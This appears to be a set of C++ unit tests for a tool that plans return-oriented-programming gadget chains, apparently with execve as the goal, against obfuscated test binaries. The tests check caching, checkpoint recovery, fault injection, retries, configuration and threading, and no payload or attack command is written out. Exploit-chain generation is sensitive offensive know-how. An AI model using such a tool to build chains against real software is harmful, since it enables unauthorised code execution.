    EXPECT_EQ(s.stats().corrupt, 1u) << "flipped bit " << bit;
    // The damaged artifact was dropped; a re-put re-publishes cleanly.
    ASSERT_TRUE(s.put(key, sample_records()).ok());
    EXPECT_TRUE(s.get(key).has_value());
  }
}

TEST(Store, TruncationReadsAsAbsent) {
  TempDir dir("trunc");
  store::ArtifactStore s(dir.str());
  serial::Writer m;
  m.put_str("x");
  const std::string key = s.key("subsume", m);
  ASSERT_TRUE(s.put(key, sample_records()).ok());

  const std::string path = dir.str() + "/" + key + ".gpa";
  auto bytes = serial::read_file(path);
  ASSERT_TRUE(bytes.ok());
  auto truncated = bytes.value();
  truncated.resize(truncated.size() / 2);
  ASSERT_TRUE(serial::write_file_atomic(path, truncated).ok());

  EXPECT_FALSE(s.get(key).has_value());
  EXPECT_EQ(s.stats().corrupt, 1u);
}

TEST(Store, OrphanArtifactWithoutManifestEntryIsStale) {
  TempDir dir("orphan");
  std::string key;
  {
    store::ArtifactStore s(dir.str());
    serial::Writer m;
    m.put_str("x");
    key = s.key("extract", m);
    ASSERT_TRUE(s.put(key, sample_records()).ok());
  }
  // Simulate a crash between artifact publish and manifest update.
  std::error_code ec;
  fs::remove(fs::path(dir.str()) / "manifest.gpm", ec);
  store::ArtifactStore s2(dir.str());
  EXPECT_FALSE(s2.get(key).has_value());
  EXPECT_EQ(s2.stats().stale, 1u);
}

TEST(Store, VersionBumpInvalidatesOldArtifacts) {
  TempDir dir("version");
  std::string key;
  {
    store::ArtifactStore s(dir.str(), /*version=*/1);
    serial::Writer m;
    m.put_str("x");
    key = s.key("extract", m);
    ASSERT_TRUE(s.put(key, sample_records()).ok());
  }
  // A bumped format version must never deserialize v1 bytes. The v1
  // manifest is also rejected, so the old artifact reads as an orphan.
  store::ArtifactStore s2(dir.str(), /*version=*/2);
  EXPECT_FALSE(s2.get(key).has_value());
  const auto stats = s2.stats();
  EXPECT_EQ(stats.stale + stats.misses, 1u);
  EXPECT_EQ(stats.hits, 0u);
}

TEST(Store, CorruptManifestStartsEmptyInsteadOfTrustingIt) {
  TempDir dir("badmanifest");
  std::string key;
  {
    store::ArtifactStore s(dir.str());
    serial::Writer m;
    m.put_str("x");
    key = s.key("extract", m);
    ASSERT_TRUE(s.put(key, sample_records()).ok());
  }
  const std::string manifest = dir.str() + "/manifest.gpm";
  auto bytes = serial::read_file(manifest);
  ASSERT_TRUE(bytes.ok());
  auto damaged = bytes.value();
  damaged[damaged.size() / 2] ^= 0x40;
  ASSERT_TRUE(serial::write_file_atomic(manifest, damaged).ok());

  store::ArtifactStore s2(dir.str());
  EXPECT_FALSE(s2.get(key).has_value());  // nothing trusted, no crash
}

// -- injected I/O faults ------------------------------------------------------

TEST(StoreFault, TornWriteIsIndistinguishableFromMissing) {
  TempDir dir("torn");
  store::ArtifactStore s(dir.str());
  serial::Writer m;
  m.put_str("x");
  const std::string key = s.key("extract", m);
  {
    fault::ScopedSpec spec("seed=9,write=1");
    // The injected short write publishes a half-written artifact; the
    // manifest cross-check must catch it.
    (void)s.put(key, sample_records()).ok();
    EXPECT_FALSE(s.get(key).has_value());
  }
  EXPECT_EQ(s.stats().hits, 0u);
  // Fault gone: the stage recomputes and re-publishes.
  ASSERT_TRUE(s.put(key, sample_records()).ok());
  EXPECT_TRUE(s.get(key).has_value());
}

TEST(StoreFault, ReadBitFlipIsDetectedAndDropped) {
  TempDir dir("readflip");
  store::ArtifactStore s(dir.str());
  serial::Writer m;
  m.put_str("x");
  const std::string key = s.key("plan", m);
  ASSERT_TRUE(s.put(key, sample_records()).ok());
  {
    fault::ScopedSpec spec("seed=9,read=1");
    EXPECT_FALSE(s.get(key).has_value());
  }
  EXPECT_GE(s.stats().corrupt, 1u);
  // The poisoned read dropped the artifact — by design (a store cannot
  // distinguish flaky media from rot); the caller recomputes and re-puts.
  ASSERT_TRUE(s.put(key, sample_records()).ok());
  EXPECT_TRUE(s.get(key).has_value());
}

TEST(StoreFault, RenameFailureFailsThePutAndLeavesNoTrace) {
  TempDir dir("rename");
  store::ArtifactStore s(dir.str());
  serial::Writer m;
  m.put_str("x");
  const std::string key = s.key("extract", m);
  {
    fault::ScopedSpec spec("seed=9,rename=1");
    const Status st = s.put(key, sample_records());
    EXPECT_FALSE(st.ok());
    EXPECT_EQ(st.code(), StatusCode::FaultInjected);
  }
  EXPECT_EQ(s.stats().put_failures, 1u);
  EXPECT_FALSE(s.get(key).has_value());  // no orphan, no temp file trusted
  ASSERT_TRUE(s.put(key, sample_records()).ok());
  EXPECT_TRUE(s.get(key).has_value());
}

// -- checkpoint/resume through the pipeline ----------------------------------

TEST(CheckpointResume, WarmRunEmitsByteIdenticalPayloads) {
  const auto img = obfuscated_image();
  core::PipelineOptions base;
  base.store_dir.clear();  // cold reference: no checkpointing at all
  base.plan.max_chains = 2;
  base.plan.time_budget_seconds = 60;

  core::GadgetPlanner cold(img, base);
  const auto cold_chains = cold.find_chains(payload::Goal::execve());
  ASSERT_FALSE(cold_chains.empty());
  EXPECT_EQ(cold.report().store.puts, 0u);

  TempDir dir("resume");
  core::PipelineOptions warm = base;
  warm.store_dir = dir.str();

  core::GadgetPlanner writer(img, warm);  // populates the store
  const auto first_chains = writer.find_chains(payload::Goal::execve());
  EXPECT_GE(writer.report().store.puts, 2u);  // extract + subsume (+ plan)
  EXPECT_EQ(writer.report().extract_runs.attempts, 1u);

  core::GadgetPlanner reader(img, warm);  // everything served from disk
  const auto warm_chains = reader.find_chains(payload::Goal::execve());
  const auto& runs = reader.report();
  EXPECT_EQ(runs.extract_runs.attempts, 0u);
  EXPECT_EQ(runs.subsume_runs.attempts, 0u);
  EXPECT_EQ(runs.plan_runs.attempts, 0u);
  EXPECT_GE(runs.extract_runs.cache_hits + runs.extract_runs.resumes, 1u);
  EXPECT_GE(runs.plan_runs.cache_hits + runs.plan_runs.resumes, 1u);

  ASSERT_EQ(cold_chains.size(), first_chains.size());
  ASSERT_EQ(cold_chains.size(), warm_chains.size());
  for (size_t i = 0; i < cold_chains.size(); ++i) {
    EXPECT_EQ(cold_chains[i].payload, first_chains[i].payload);
    EXPECT_EQ(cold_chains[i].payload, warm_chains[i].payload);
    EXPECT_EQ(cold_chains[i].entry, warm_chains[i].entry);
    EXPECT_EQ(cold_chains[i].gadgets, warm_chains[i].gadgets);
  }
}

TEST(CheckpointResume, ResumesFromTheLastGoodCheckpoint) {
  const auto img = obfuscated_image();
  TempDir dir("partial");

  // An "interrupted" run that only completed extraction (the pipeline died
  // before subsumption, so only the extract checkpoint exists).
  core::PipelineOptions partial;
  partial.store_dir = dir.str();
  partial.run_subsumption = false;
  core::GadgetPlanner interrupted(img, partial);
  EXPECT_EQ(interrupted.report().extract_runs.attempts, 1u);

  // The resumed full run serves extraction from the checkpoint and only
  // computes the missing stages.
  core::PipelineOptions full;
  full.store_dir = dir.str();
  core::GadgetPlanner resumed(img, full);
  EXPECT_EQ(resumed.report().extract_runs.attempts, 0u);
  EXPECT_GE(resumed.report().extract_runs.cache_hits +
                resumed.report().extract_runs.resumes,
            1u);
  EXPECT_EQ(resumed.report().subsume_runs.attempts, 1u);

  core::PipelineOptions none;
  none.store_dir.clear();
  core::GadgetPlanner reference(img, none);
  EXPECT_EQ(resumed.report().pool_raw, reference.report().pool_raw);
  EXPECT_EQ(resumed.report().pool_minimized, reference.report().pool_minimized);
}

TEST(CheckpointResume, CorruptedCheckpointIsTransparentlyRecomputed) {
  const auto img = obfuscated_image();
  TempDir dir("heal");
  core::PipelineOptions opts;
  opts.store_dir = dir.str();
  core::GadgetPlanner writer(img, opts);
  ASSERT_GE(writer.report().store.puts, 1u);

  // Flip one bit in every artifact on disk.
  for (const auto& entry : fs::directory_iterator(dir.str())) {
    if (entry.path().extension() != ".gpa") continue;
    auto bytes = serial::read_file(entry.path().string());
    ASSERT_TRUE(bytes.ok());
    auto damaged = bytes.value();
    damaged[damaged.size() / 3] ^= 0x10;
    ASSERT_TRUE(
        serial::write_file_atomic(entry.path().string(), damaged).ok());
  }

  core::GadgetPlanner healed(img, opts);
  EXPECT_EQ(healed.report().extract_runs.attempts, 1u);  // recomputed
  EXPECT_GE(healed.report().store.corrupt, 1u);
  EXPECT_EQ(healed.report().pool_raw, writer.report().pool_raw);
  EXPECT_EQ(healed.report().pool_minimized, writer.report().pool_minimized);

  // And the recomputed checkpoints are good again.
  core::GadgetPlanner warm(img, opts);
  EXPECT_EQ(warm.report().extract_runs.attempts, 0u);
}

// -- the stage supervisor -----------------------------------------------------

TEST(Supervisor, RetriesWithWidenedBudgetsUntilExtractionIsClean) {
  const auto img = obfuscated_image();
  core::PipelineOptions opts;
  opts.store_dir.clear();
  opts.governor.max_sym_steps = 40;  // starves the first attempt
  opts.supervise.max_retries = 10;
  opts.supervise.budget_widen_factor = 8;
  opts.supervise.backoff_initial_ms = 0;  // don't sleep in tests

  core::GadgetPlanner gp(img, opts);
  const auto& runs = gp.report().extract_runs;
  EXPECT_GE(runs.attempts, 2u);
  EXPECT_GE(runs.retries, 1u);
  EXPECT_EQ(runs.attempts, runs.retries + 1);
  EXPECT_TRUE(gp.report().extract_status.ok())
      << gp.report().extract_status.to_string();
  EXPECT_GT(gp.report().pool_raw, 0u);
}

TEST(Supervisor, ZeroRetriesKeepsTheDegradedResult) {
  const auto img = obfuscated_image();
  core::PipelineOptions opts;
  opts.store_dir.clear();
  opts.governor.max_sym_steps = 40;
  opts.supervise.max_retries = 0;

  core::GadgetPlanner gp(img, opts);
  EXPECT_EQ(gp.report().extract_runs.attempts, 1u);
  EXPECT_EQ(gp.report().extract_runs.retries, 0u);
  EXPECT_FALSE(gp.report().extract_status.ok());  // degraded, not retried
}

TEST(Supervisor, DegradedResultsAreNeverCheckpointed) {
  const auto img = obfuscated_image();
  TempDir dir("nodegrade");
  core::PipelineOptions opts;
  opts.store_dir = dir.str();
  opts.governor.max_sym_steps = 40;
  opts.supervise.max_retries = 0;
  core::GadgetPlanner degraded(img, opts);
  ASSERT_FALSE(degraded.report().extract_status.ok());
  EXPECT_EQ(degraded.report().store.puts, 0u);

  // A later unconstrained run must not inherit the partial pool.
  core::PipelineOptions clean;
  clean.store_dir = dir.str();
  core::GadgetPlanner full(img, clean);
  EXPECT_EQ(full.report().extract_runs.attempts, 1u);
  EXPECT_GT(full.report().pool_raw, degraded.report().pool_raw);
}

TEST(SupervisorOptions, ReadsGpRetriesFromTheEnvironment) {
  ::setenv("GP_RETRIES", "7", 1);
  EXPECT_EQ(core::SupervisorOptions::from_env().max_retries, 7);
  ::setenv("GP_RETRIES", "garbage", 1);
  EXPECT_EQ(core::SupervisorOptions::from_env().max_retries,
            core::SupervisorOptions{}.max_retries);
  ::setenv("GP_RETRIES", "-3", 1);
  EXPECT_EQ(core::SupervisorOptions::from_env().max_retries,
            core::SupervisorOptions{}.max_retries);
  ::unsetenv("GP_RETRIES");
}

}  // namespace
}  // namespace gp
