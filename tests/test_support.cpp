#include <gtest/gtest.h>

#include <atomic>
#include <cstdlib>
#include <set>
#include <vector>

#include "support/common.hpp"
#include "support/config.hpp"
#include "support/rng.hpp"
#include "support/str.hpp"
#include "support/thread_pool.hpp"

namespace gp {
namespace {

TEST(BitUtil, TruncateMasksHighBits) {
  EXPECT_EQ(truncate(0xffffffffffffffffULL, 8), 0xffu);
  EXPECT_EQ(truncate(0x1234, 4), 0x4u);
  EXPECT_EQ(truncate(0xdeadbeef, 64), 0xdeadbeefULL);
  EXPECT_EQ(truncate(0xdeadbeef, 32), 0xdeadbeefULL);
  EXPECT_EQ(truncate(0x1, 1), 1u);
}

TEST(BitUtil, SignExtend) {
  EXPECT_EQ(sign_extend(0xff, 8), 0xffffffffffffffffULL);
  EXPECT_EQ(sign_extend(0x7f, 8), 0x7fULL);
  EXPECT_EQ(sign_extend(0x80000000ULL, 32), 0xffffffff80000000ULL);
  EXPECT_EQ(sign_extend(0x7fffffffULL, 32), 0x7fffffffULL);
  EXPECT_EQ(sign_extend(1, 1), 0xffffffffffffffffULL);
  EXPECT_EQ(sign_extend(0, 1), 0u);
}

TEST(BitUtil, SignExtendIdempotentAt64) {
  EXPECT_EQ(sign_extend(0xdeadbeefcafef00dULL, 64), 0xdeadbeefcafef00dULL);
}

TEST(Rng, Deterministic) {
  Rng a(42), b(42);
  for (int i = 0; i < 100; ++i) EXPECT_EQ(a.next(), b.next());
}

TEST(Rng, DifferentSeedsDiffer) {
  Rng a(1), b(2);
  int same = 0;
  for (int i = 0; i < 64; ++i) same += a.next() == b.next();
  EXPECT_LT(same, 4);
}

TEST(Rng, BelowInRange) {
  Rng r(7);
  for (int i = 0; i < 1000; ++i) EXPECT_LT(r.below(17), 17u);
}

TEST(Rng, RangeInclusive) {
  Rng r(9);
  std::set<i64> seen;
  for (int i = 0; i < 500; ++i) {
    i64 v = r.range(-3, 3);
    EXPECT_GE(v, -3);
    EXPECT_LE(v, 3);
    seen.insert(v);
  }
  EXPECT_EQ(seen.size(), 7u);  // all values hit
}

TEST(Rng, ChanceExtremes) {
  Rng r(11);
  for (int i = 0; i < 100; ++i) {
    EXPECT_FALSE(r.chance(0.0));
    EXPECT_TRUE(r.chance(1.0));
  }
}

TEST(Str, Hex) {
  EXPECT_EQ(hex(0), "0x0");
  EXPECT_EQ(hex(0x401000), "0x401000");
  EXPECT_EQ(hex_byte(0x0f), "0f");
}

TEST(Str, Join) {
  EXPECT_EQ(join({}, ","), "");
  EXPECT_EQ(join({"a"}, ","), "a");
  EXPECT_EQ(join({"a", "b", "c"}, ", "), "a, b, c");
}

TEST(Error, CheckThrows) {
  EXPECT_THROW(GP_CHECK(false, "boom"), Error);
  EXPECT_NO_THROW(GP_CHECK(true, "fine"));
}

TEST(ThreadPool, RunsEveryItemExactlyOnce) {
  ThreadPool pool(3);
  std::vector<std::atomic<int>> hits(1000);
  pool.run(
      hits.size(), [&](int, u64 i) { hits[i].fetch_add(1); }, 4);
  for (const auto& h : hits) EXPECT_EQ(h.load(), 1);
}

TEST(ThreadPool, LaneIdsAreDenseAndBounded) {
  ThreadPool pool(7);
  const int max_lanes = 3;
  std::atomic<u32> lane_mask{0};
  std::atomic<int> active{0}, peak{0};
  pool.run(
      200,
      [&](int lane, u64) {
        EXPECT_GE(lane, 0);
        EXPECT_LT(lane, max_lanes);
        lane_mask.fetch_or(1u << lane);
        int now = active.fetch_add(1) + 1;
        int p = peak.load();
        while (now > p && !peak.compare_exchange_weak(p, now)) {
        }
        active.fetch_sub(1);
      },
      max_lanes);
  EXPECT_LE(peak.load(), max_lanes);
  EXPECT_NE(lane_mask.load(), 0u);
}

TEST(ThreadPool, CallerParticipatesWithZeroWorkers) {
  ThreadPool pool(0);
  EXPECT_EQ(pool.workers(), 0);
  std::atomic<int> n{0};
  pool.run(
      64, [&](int lane, u64) {
        EXPECT_EQ(lane, 0);
        n.fetch_add(1);
      },
      8);
  EXPECT_EQ(n.load(), 64);
}

TEST(ThreadPool, PropagatesFirstException) {
  ThreadPool pool(2);
  EXPECT_THROW(pool.run(
                   100,
                   [&](int, u64 i) {
                     if (i == 17) fail("boom");
                   },
                   4),
               Error);
}

TEST(ThreadPool, NestedRunDoesNotDeadlock) {
  ThreadPool pool(2);
  std::atomic<int> n{0};
  pool.run(
      4,
      [&](int, u64) {
        pool.run(
            8, [&](int, u64) { n.fetch_add(1); }, 2);
      },
      3);
  EXPECT_EQ(n.load(), 32);
}

TEST(ThreadPool, ResolvePolicy) {
  EXPECT_EQ(ThreadPool::resolve(5), 5);
  EXPECT_GE(ThreadPool::resolve(0), 1);  // env / hardware fallback
  EXPECT_GE(ThreadPool::env_threads(), 1);
  EXPECT_GE(ThreadPool::shared().workers(), 3);
}

TEST(ThreadPool, EnvKnobControlsResolve) {
  setenv("GP_THREADS", "3", 1);
  EXPECT_EQ(ThreadPool::env_threads(), 3);
  EXPECT_EQ(ThreadPool::resolve(0), 3);
  setenv("GP_THREADS", "junk", 1);  // unparsable: hardware fallback
  EXPECT_GE(ThreadPool::env_threads(), 1);
  unsetenv("GP_THREADS");
}

TEST(Config, FromEnvParsesEveryKnobFresh) {
  setenv("GP_THREADS", "5", 1);
  setenv("GP_RETRIES", "7", 1);
  setenv("GP_STORE_DIR", "/tmp/gp-config-test", 1);
  setenv("GP_FAULT", "solver=0.5", 1);
  setenv("GP_DEADLINE_MS", "1500", 1);
  setenv("GP_SOLVER_CHECKS", "42", 1);
  const Config cfg = Config::from_env();
  EXPECT_EQ(cfg.threads, 5);
  EXPECT_EQ(cfg.max_retries, 7);
  EXPECT_EQ(cfg.store_dir, "/tmp/gp-config-test");
  EXPECT_EQ(cfg.fault_spec, "solver=0.5");
  EXPECT_DOUBLE_EQ(cfg.governor.deadline_seconds, 1.5);
  EXPECT_EQ(cfg.governor.max_solver_checks, 42u);

  // from_env() is a fresh parse every call: a later setenv is observed.
  setenv("GP_RETRIES", "1", 1);
  EXPECT_EQ(Config::from_env().max_retries, 1);

  for (const char* knob : {"GP_THREADS", "GP_RETRIES", "GP_STORE_DIR",
                           "GP_FAULT", "GP_DEADLINE_MS", "GP_SOLVER_CHECKS"})
    unsetenv(knob);
  const Config clean = Config::from_env();
  EXPECT_GE(clean.threads, 1);  // hardware fallback, never 0
  EXPECT_EQ(clean.max_retries, 2);
  EXPECT_TRUE(clean.store_dir.empty());
  EXPECT_EQ(clean.governor.max_solver_checks, 0u);  // unlimited
}

TEST(Config, InvalidValuesKeepDefaults) {
  setenv("GP_THREADS", "0", 1);     // below minimum: hardware fallback
  setenv("GP_RETRIES", "junk", 1);  // unparsable: default
  const Config cfg = Config::from_env();
  EXPECT_GE(cfg.threads, 1);
  EXPECT_EQ(cfg.max_retries, 2);
  unsetenv("GP_THREADS");
  unsetenv("GP_RETRIES");
}

TEST(Config, ObservabilityKnobs) {
  setenv("GP_METRICS", "0", 1);
  setenv("GP_TRACE", "1", 1);
  setenv("GP_TRACE_BUF", "4096", 1);
  Config cfg = Config::from_env();
  EXPECT_FALSE(cfg.metrics);
  EXPECT_TRUE(cfg.trace);
  EXPECT_EQ(cfg.trace_buf, 4096u);

  // "false"/"off" (any case) also disable; unset restores the defaults.
  setenv("GP_METRICS", "False", 1);
  setenv("GP_TRACE", "off", 1);
  cfg = Config::from_env();
  EXPECT_FALSE(cfg.metrics);
  EXPECT_FALSE(cfg.trace);

  unsetenv("GP_METRICS");
  unsetenv("GP_TRACE");
  unsetenv("GP_TRACE_BUF");
  cfg = Config::from_env();
  EXPECT_TRUE(cfg.metrics);   // metrics default on
  EXPECT_FALSE(cfg.trace);    // tracing default off
  EXPECT_EQ(cfg.trace_buf, 8192u);
}

TEST(JsonEscape, PassesPlainTextThrough) {
  EXPECT_EQ(json_escape("hash_table"), "hash_table");
  EXPECT_EQ(json_escape(""), "");
}

TEST(JsonEscape, EscapesQuotesAndBackslashes) {
  EXPECT_EQ(json_escape("a\"b"), "a\\\"b");
  EXPECT_EQ(json_escape("a\\b"), "a\\\\b");
  EXPECT_EQ(json_escape("pwn\"]}"), "pwn\\\"]}");
}

TEST(JsonEscape, EscapesControlCharacters) {
  // The old campaign-local escaper turned "a\nb" into the invalid literal
  // `a\b`; the shared one must produce a two-character escape.
  EXPECT_EQ(json_escape("a\nb"), "a\\nb");
  EXPECT_EQ(json_escape("a\rb"), "a\\rb");
  EXPECT_EQ(json_escape("a\tb"), "a\\tb");
  EXPECT_EQ(json_escape(std::string("a\x01") + "b"), "a\\u0001b");
}

TEST(GovernorOptions, SplitAcrossDividesCountedBudgets) {
  GovernorOptions g;
  g.max_solver_checks = 100;
  g.max_sym_steps = 3;
  g.max_expr_nodes = 0;
  g.deadline_seconds = 2.0;
  const GovernorOptions share = g.split_across(4);
  EXPECT_EQ(share.max_solver_checks, 25u);
  EXPECT_EQ(share.max_sym_steps, 1u);  // floor is 1, not 0 (= unlimited)
  EXPECT_EQ(share.max_expr_nodes, 0u);  // unlimited stays unlimited
  EXPECT_DOUBLE_EQ(share.deadline_seconds, 2.0);  // deadline is shared
}

}  // namespace
}  // namespace gp
