#include <gtest/gtest.h>

#include <set>

#include "support/common.hpp"
#include "support/rng.hpp"
#include "support/str.hpp"

namespace gp {
namespace {

TEST(BitUtil, TruncateMasksHighBits) {
  EXPECT_EQ(truncate(0xffffffffffffffffULL, 8), 0xffu);
  EXPECT_EQ(truncate(0x1234, 4), 0x4u);
  EXPECT_EQ(truncate(0xdeadbeef, 64), 0xdeadbeefULL);
  EXPECT_EQ(truncate(0xdeadbeef, 32), 0xdeadbeefULL);
  EXPECT_EQ(truncate(0x1, 1), 1u);
}

TEST(BitUtil, SignExtend) {
  EXPECT_EQ(sign_extend(0xff, 8), 0xffffffffffffffffULL);
  EXPECT_EQ(sign_extend(0x7f, 8), 0x7fULL);
  EXPECT_EQ(sign_extend(0x80000000ULL, 32), 0xffffffff80000000ULL);
  EXPECT_EQ(sign_extend(0x7fffffffULL, 32), 0x7fffffffULL);
  EXPECT_EQ(sign_extend(1, 1), 0xffffffffffffffffULL);
  EXPECT_EQ(sign_extend(0, 1), 0u);
}

TEST(BitUtil, SignExtendIdempotentAt64) {
  EXPECT_EQ(sign_extend(0xdeadbeefcafef00dULL, 64), 0xdeadbeefcafef00dULL);
}

TEST(Rng, Deterministic) {
  Rng a(42), b(42);
  for (int i = 0; i < 100; ++i) EXPECT_EQ(a.next(), b.next());
}

TEST(Rng, DifferentSeedsDiffer) {
  Rng a(1), b(2);
  int same = 0;
  for (int i = 0; i < 64; ++i) same += a.next() == b.next();
  EXPECT_LT(same, 4);
}

TEST(Rng, BelowInRange) {
  Rng r(7);
  for (int i = 0; i < 1000; ++i) EXPECT_LT(r.below(17), 17u);
}

TEST(Rng, RangeInclusive) {
  Rng r(9);
  std::set<i64> seen;
  for (int i = 0; i < 500; ++i) {
    i64 v = r.range(-3, 3);
    EXPECT_GE(v, -3);
    EXPECT_LE(v, 3);
    seen.insert(v);
  }
  EXPECT_EQ(seen.size(), 7u);  // all values hit
}

TEST(Rng, ChanceExtremes) {
  Rng r(11);
  for (int i = 0; i < 100; ++i) {
    EXPECT_FALSE(r.chance(0.0));
    EXPECT_TRUE(r.chance(1.0));
  }
}

TEST(Str, Hex) {
  EXPECT_EQ(hex(0), "0x0");
  EXPECT_EQ(hex(0x401000), "0x401000");
  EXPECT_EQ(hex_byte(0x0f), "0f");
}

TEST(Str, Join) {
  EXPECT_EQ(join({}, ","), "");
  EXPECT_EQ(join({"a"}, ","), "a");
  EXPECT_EQ(join({"a", "b", "c"}, ", "), "a, b, c");
}

TEST(Error, CheckThrows) {
  EXPECT_THROW(GP_CHECK(false, "boom"), Error);
  EXPECT_NO_THROW(GP_CHECK(true, "fine"));
}

}  // namespace
}  // namespace gp
