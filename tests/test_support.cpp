#include <gtest/gtest.h>

#include <atomic>
#include <cstdlib>
#include <set>
#include <vector>

#include "support/common.hpp"
#include "support/rng.hpp"
#include "support/str.hpp"
#include "support/thread_pool.hpp"

namespace gp {
namespace {

TEST(BitUtil, TruncateMasksHighBits) {
  EXPECT_EQ(truncate(0xffffffffffffffffULL, 8), 0xffu);
  EXPECT_EQ(truncate(0x1234, 4), 0x4u);
  EXPECT_EQ(truncate(0xdeadbeef, 64), 0xdeadbeefULL);
  EXPECT_EQ(truncate(0xdeadbeef, 32), 0xdeadbeefULL);
  EXPECT_EQ(truncate(0x1, 1), 1u);
}

TEST(BitUtil, SignExtend) {
  EXPECT_EQ(sign_extend(0xff, 8), 0xffffffffffffffffULL);
  EXPECT_EQ(sign_extend(0x7f, 8), 0x7fULL);
  EXPECT_EQ(sign_extend(0x80000000ULL, 32), 0xffffffff80000000ULL);
  EXPECT_EQ(sign_extend(0x7fffffffULL, 32), 0x7fffffffULL);
  EXPECT_EQ(sign_extend(1, 1), 0xffffffffffffffffULL);
  EXPECT_EQ(sign_extend(0, 1), 0u);
}

TEST(BitUtil, SignExtendIdempotentAt64) {
  EXPECT_EQ(sign_extend(0xdeadbeefcafef00dULL, 64), 0xdeadbeefcafef00dULL);
}

TEST(Rng, Deterministic) {
  Rng a(42), b(42);
  for (int i = 0; i < 100; ++i) EXPECT_EQ(a.next(), b.next());
}

TEST(Rng, DifferentSeedsDiffer) {
  Rng a(1), b(2);
  int same = 0;
  for (int i = 0; i < 64; ++i) same += a.next() == b.next();
  EXPECT_LT(same, 4);
}

TEST(Rng, BelowInRange) {
  Rng r(7);
  for (int i = 0; i < 1000; ++i) EXPECT_LT(r.below(17), 17u);
}

TEST(Rng, RangeInclusive) {
  Rng r(9);
  std::set<i64> seen;
  for (int i = 0; i < 500; ++i) {
    i64 v = r.range(-3, 3);
    EXPECT_GE(v, -3);
    EXPECT_LE(v, 3);
    seen.insert(v);
  }
  EXPECT_EQ(seen.size(), 7u);  // all values hit
}

TEST(Rng, ChanceExtremes) {
  Rng r(11);
  for (int i = 0; i < 100; ++i) {
    EXPECT_FALSE(r.chance(0.0));
    EXPECT_TRUE(r.chance(1.0));
  }
}

TEST(Str, Hex) {
  EXPECT_EQ(hex(0), "0x0");
  EXPECT_EQ(hex(0x401000), "0x401000");
  EXPECT_EQ(hex_byte(0x0f), "0f");
}

TEST(Str, Join) {
  EXPECT_EQ(join({}, ","), "");
  EXPECT_EQ(join({"a"}, ","), "a");
  EXPECT_EQ(join({"a", "b", "c"}, ", "), "a, b, c");
}

TEST(Error, CheckThrows) {
  EXPECT_THROW(GP_CHECK(false, "boom"), Error);
  EXPECT_NO_THROW(GP_CHECK(true, "fine"));
}

TEST(ThreadPool, RunsEveryItemExactlyOnce) {
  ThreadPool pool(3);
  std::vector<std::atomic<int>> hits(1000);
  pool.run(
      hits.size(), [&](int, u64 i) { hits[i].fetch_add(1); }, 4);
  for (const auto& h : hits) EXPECT_EQ(h.load(), 1);
}

TEST(ThreadPool, LaneIdsAreDenseAndBounded) {
  ThreadPool pool(7);
  const int max_lanes = 3;
  std::atomic<u32> lane_mask{0};
  std::atomic<int> active{0}, peak{0};
  pool.run(
      200,
      [&](int lane, u64) {
        EXPECT_GE(lane, 0);
        EXPECT_LT(lane, max_lanes);
        lane_mask.fetch_or(1u << lane);
        int now = active.fetch_add(1) + 1;
        int p = peak.load();
        while (now > p && !peak.compare_exchange_weak(p, now)) {
        }
        active.fetch_sub(1);
      },
      max_lanes);
  EXPECT_LE(peak.load(), max_lanes);
  EXPECT_NE(lane_mask.load(), 0u);
}

TEST(ThreadPool, CallerParticipatesWithZeroWorkers) {
  ThreadPool pool(0);
  EXPECT_EQ(pool.workers(), 0);
  std::atomic<int> n{0};
  pool.run(
      64, [&](int lane, u64) {
        EXPECT_EQ(lane, 0);
        n.fetch_add(1);
      },
      8);
  EXPECT_EQ(n.load(), 64);
}

TEST(ThreadPool, PropagatesFirstException) {
  ThreadPool pool(2);
  EXPECT_THROW(pool.run(
                   100,
                   [&](int, u64 i) {
                     if (i == 17) fail("boom");
                   },
                   4),
               Error);
}

TEST(ThreadPool, NestedRunDoesNotDeadlock) {
  ThreadPool pool(2);
  std::atomic<int> n{0};
  pool.run(
      4,
      [&](int, u64) {
        pool.run(
            8, [&](int, u64) { n.fetch_add(1); }, 2);
      },
      3);
  EXPECT_EQ(n.load(), 32);
}

TEST(ThreadPool, ResolvePolicy) {
  EXPECT_EQ(ThreadPool::resolve(5), 5);
  EXPECT_GE(ThreadPool::resolve(0), 1);  // env / hardware fallback
  EXPECT_GE(ThreadPool::env_threads(), 1);
  EXPECT_GE(ThreadPool::shared().workers(), 3);
}

TEST(ThreadPool, EnvKnobControlsResolve) {
  setenv("GP_THREADS", "3", 1);
  EXPECT_EQ(ThreadPool::env_threads(), 3);
  EXPECT_EQ(ThreadPool::resolve(0), 3);
  setenv("GP_THREADS", "junk", 1);  // unparsable: hardware fallback
  EXPECT_GE(ThreadPool::env_threads(), 1);
  unsetenv("GP_THREADS");
}

}  // namespace
}  // namespace gp
