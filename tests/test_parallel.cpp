// Determinism of the parallel pipeline: extraction and subsumption must
// yield the same gadget pool at any thread count. Workers explore offset
// shards in private solver contexts, so equality across runs is checked
// with a canonical cross-context expression form (commutative operand
// order in an interned DAG depends on context-local ref numbering).
#include <gtest/gtest.h>

#include <algorithm>
#include <chrono>
#include <cstdlib>
#include <string>
#include <thread>
#include <unordered_map>
#include <vector>

#include "codegen/codegen.hpp"
#include "core/core.hpp"
#include "corpus/corpus.hpp"
#include "gadget/gadget.hpp"
#include "minic/minic.hpp"
#include "obfuscate/obfuscate.hpp"
#include "payload/serialize.hpp"
#include "subsume/subsume.hpp"
#include "support/metrics.hpp"
#include "support/trace.hpp"

namespace gp::gadget {
namespace {

const char* kSource = R"(
int scale(int x, int k) { return x * k + 3; }
int clamp(int v, int lo, int hi) { if (v < lo) return lo; if (v > hi) return hi; return v; }
int a[16];
int main() {
  int i = 0;
  while (i < 16) { a[i] = clamp(scale(i, 37), 5, 900) & 0xff; i = i + 1; }
  int j = 0; int best = 0;
  while (j < 16) { if (a[j] > best) best = a[j]; j = j + 1; }
  out(best); return best;
})";

const image::Image& obfuscated_image() {
  static const image::Image img = [] {
    auto prog = minic::compile_source(kSource);
    obf::obfuscate(prog, obf::Options::llvm_obf(7));
    return codegen::compile(prog);
  }();
  return img;
}

using Memo = std::unordered_map<solver::ExprRef, std::string>;

/// Canonical string form of an expression, independent of the owning
/// context's ref numbering: commutative operand lists are re-sorted by
/// canonical form and constants always print their width.
std::string canon(const solver::Context& ctx, solver::ExprRef e, Memo& memo) {
  if (e == solver::kNoExpr) return "-";
  auto it = memo.find(e);
  if (it != memo.end()) return it->second;
  const solver::Node& n = ctx.node(e);
  std::string s;
  switch (n.op) {
    case solver::Op::Const:
      s = "c" + std::to_string(n.cval) + "w" + std::to_string(n.width);
      break;
    case solver::Op::Var:
